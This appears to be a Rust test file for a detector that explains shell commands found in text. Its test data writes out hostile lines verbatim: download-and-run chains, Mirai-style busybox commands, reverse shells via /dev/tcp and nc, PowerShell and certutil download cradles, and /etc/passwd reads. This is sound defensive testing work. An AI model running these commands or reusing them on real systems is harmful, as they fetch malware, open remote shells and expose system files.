use super::*;

fn told(text: &str, name: Option<&str>, is_attack: bool) -> Vec<String> {
    let text = Text {
        bytes: text.as_bytes(),
        name: name.map(str::as_bytes),
    };
    let actions = actions([text], is_attack);
    actions.iter().map(Action::sentence).collect()
}

#[test]
fn a_command_is_told_step_by_step() {
    for (command, sentence) in [
        (
            "cd /tmp; rm -rf *; wget http://198.51.100.9/jaws; chmod 777 jaws; sh jaws",
            "goes to /tmp, deletes *, downloads jaws from 198[.]51[.]100[.]9, makes it executable, runs it",
        ),
        (
            "cd /tmp || cd /var/run || cd /; wget 198.51.100.9:81/a/x.sh -O y; ./y",
            "goes to the first of /tmp, /var/run, / that is there, downloads a/x.sh from \
             198[.]51[.]100[.]9:81 as y, runs it",
        ),
        (
            "curl -s http://198.51.100.9/a.sh | sh",
            "downloads a.sh from 198[.]51[.]100[.]9, runs it",
        ),
        (
            "wget -qO- http://198.51.100.9/a|bash -s",
            "downloads a from 198[.]51[.]100[.]9, runs it",
        ),
        (
            "bash <(curl -s http://198.51.100.9/a)",
            "downloads a from 198[.]51[.]100[.]9, runs it",
        ),
        (
            "sh -c \"$(curl -fsSL http://198.51.100.9/a)\"",
            "downloads a from 198[.]51[.]100[.]9, runs it",
        ),
        (
            "wget${IFS}http://198.51.100.9/b$IFS-P${IFS}/tmp&&chmod${IFS}+x${IFS}/tmp/b",
            "downloads b from 198[.]51[.]100[.]9 to /tmp, makes it executable",
        ),
        (
            "/bin/busybox wget -g 198.51.100.9 -l /tmp/x -r /mips; /tmp/x huawei",
            "downloads /mips from 198[.]51[.]100[.]9 as /tmp/x, runs it",
        ),
        (
            "tftp -g -r m.sh 198.51.100.9; sh m.sh",
            "downloads m.sh from 198[.]51[.]100[.]9 by TFTP, runs it",
        ),
        (
            "tftp 198.51.100.9 -c get t1.sh",
            "downloads t1.sh from 198[.]51[.]100[.]9 by TFTP",
        ),
        (
            "ftpget -v -u a -p b -P 21 198.51.100.9 f.sh f.sh",
            "downloads f.sh from 198[.]51[.]100[.]9 by FTP",
        ),
        ("/bin/busybox MIRAI", "calls MIRAI of busybox"),
        (
            "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
            "hands a shell to 198[.]51[.]100[.]9 port 4444",
        ),
        (
            "nc -e /bin/sh 198.51.100.9 4444",
            "hands a shell to 198[.]51[.]100[.]9 port 4444",
        ),
        (
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.9 4444 >/tmp/f",
            "deletes /tmp/f, makes a named pipe /tmp/f, hands a shell to 198[.]51[.]100[.]9 port 4444",
        ),
        (
            "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')",
            "downloads a.ps1 from 198[.]51[.]100[.]9, runs it",
        ),
        (
            "powershell (New-Object Net.WebClient).DownloadFile('http://198.51.100.9/a.exe','C:\\b.exe');\
             Start-Process 'C:\\b.exe'",
            "downloads a.exe from 198[.]51[.]100[.]9 as C:\\b.exe, runs it",
        ),
        (
            "powershell Invoke-WebRequest -Uri http://198.51.100.9/a -OutFile b",
            "downloads a from 198[.]51[.]100[.]9 as b",
        ),
        (
            "certutil -urlcache -split -f http://198.51.100.9/a.exe b.exe",
            "downloads a.exe from 198[.]51[.]100[.]9 as b.exe",
        ),
        ("cat /etc/passwd", "shows the file /etc/passwd"),
        ("id", "asks which user it runs as"),
        ("uname -a", "asks what system this is"),
        (
            "echo YQ==|base64 -d|sh",
            "takes the text YQ==, decodes it, runs what comes out of that",
        ),
        ("echo a>/tmp/x.php", "writes a to /tmp/x.php"),
        ("sleep 5", "waits 5 s"),
        (
            "echo a \\u003e /tmp/x \\u0026\\u0026 id",
            "writes a to /tmp/x, asks which user it runs as",
        ),
        (
            "id > /tmp/x",
            "asks which user it runs as and writes that to /tmp/x",
        ),
        (
            "id > `uname`",
            "asks what system this is, asks which user it runs as",
        ),
        (
            "nslookup a.example.com",
            "looks up the name a[.]example[.]com",
        ),
        ("ping -c 3 198.51.100.9", "pings 198[.]51[.]100[.]9"),
    ] {
        assert_eq!(told(&format!("x;{command}"), None, true), [sentence]);
    }
}

#[test]
fn commands_are_found_where_they_are() {
    let fetched = "downloads a from 198[.]51[.]100[.]9";
    let wget = "wget http://198.51.100.9/a";
    for text in [
        format!("<x>`{wget}`</x>"),
        format!("<x>$({wget})</x>"),
        format!("{{\"command\":\"{wget}\"}}"),
        format!("() {{ :; }}; /bin/bash -c '{wget}'"),
        format!("() {{ :; }}; /bin/bash -c \"{wget}\""),
        format!("x|{wget}"),
        format!("{{\"a\":\"x=\\\"{wget}\\\"\"}}"),
        format!("{{\"a\":\"x\\u003b{wget}\"}}").replace("x\\u003b", "x;"),
        format!("*/1 * * * * {wget}"),
        format!("shell:{wget}"),
    ] {
        assert_eq!(told(&text, None, false), [fetched], "{text}");
    }
    assert_eq!(told(wget, Some("q"), false), [fetched]);
    assert_eq!(
        told("id", Some("cmd"), false),
        ["asks which user it runs as"]
    );
}

#[test]
fn ordinary_words_are_no_commands() {
    for (text, name) in [
        ("id", Some("sort")),
        ("5", Some("cat")),
        ("cat food", Some("q")),
        ("echo dot", Some("q")),
        ("curl hair", Some("q")),
        ("sleep 8 hours", Some("q")),
        ("ping pong", Some("q")),
        ("sh", Some("lang")),
        ("a=1; id=5; cat=7", None),
        ("Mozilla/5.0 (X11; Linux; curl)", None),
        ("curl/8.0", None),
        ("text/html;q=0.9; host", None),
        (";echo md5(1);", None),
        ("name|id|type", Some("fields")),
        ("I said\ncat is here\necho of it\nhost them", None),
        ("GET /id HTTP/1.1\r\nHost: ping\r\n", None),
    ] {
        assert_eq!(told(text, name, false), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn any_bytes_are_taken_and_what_is_said_has_a_limit() {
    let words = [
        ";",
        "|",
        "&&",
        "`",
        "$(",
        ")",
        "'",
        "\"",
        "\\",
        " ",
        "\n",
        "{",
        "}",
        ",",
        "<",
        ">",
        "&",
        "$IFS",
        "wget ",
        "curl ",
        "http://1.2.3.4/a ",
        "sh ",
        "-c ",
        "-O ",
        "cd ",
        "/tmp ",
        "echo ",
        "1",
        "2",
        "chmod ",
        "+x ",
        "\0",
        "busybox ",
        "powershell -e ",
        "/dev/tcp/",
        "nc ",
        "id ",
        "\u{202e}",
        "a.b",
        "#",
        "tftp ",
        "-",
        "=",
    ];
    let mut state = 7_u32;
    for length in 0..6000 {
        let mut next = || {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            (state >> 16) as usize
        };
        let text: String = (0..length % 60)
            .map(|_| words[next() % words.len()])
            .collect();
        let text = Text {
            bytes: text.as_bytes(),
            name: Some(b"cmd"),
        };
        for action in actions([text], true) {
            let chars = action.steps.iter().map(|step| step.chars().count());
            assert!(chars.sum::<usize>() <= 600 && action.steps.len() <= 16);
            assert!(action.sentence().chars().all(printable::is_visible));
            assert!(action.command.chars().all(printable::is_visible));
        }
    }
}
